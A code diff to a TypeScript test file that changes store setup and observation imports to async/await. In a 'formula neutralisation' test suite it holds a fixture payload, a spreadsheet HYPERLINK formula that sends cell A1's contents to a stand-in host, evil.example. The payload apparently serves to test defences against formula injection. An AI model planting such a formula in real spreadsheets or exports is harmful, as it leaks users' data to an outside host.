@@ -83,7 +83,7 @@ let store: TempStore;
 let app: ReturnType<typeof createApp>;
 let thesis: any;
 beforeAll(async () => {
-  store = tempStore("default-data");
+  store = await tempStore("default-data");
   app = createApp({ store });
   thesis = await (await app.request("/api/thesis")).json();
 });
@@ -286,10 +286,10 @@ describe("formula neutralisation", () => {
   let injected: TempStore;
   let injectedApp: ReturnType<typeof createApp>;
   const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"10-Q")';
-  beforeAll(() => {
-    injected = tempStore("default-data");
+  beforeAll(async () => {
+    injected = await tempStore("default-data");
     injectedApp = createApp({ store: injected });
-    const report = importObservations(
+    const report = await importObservations(
       injected,
       [
         {
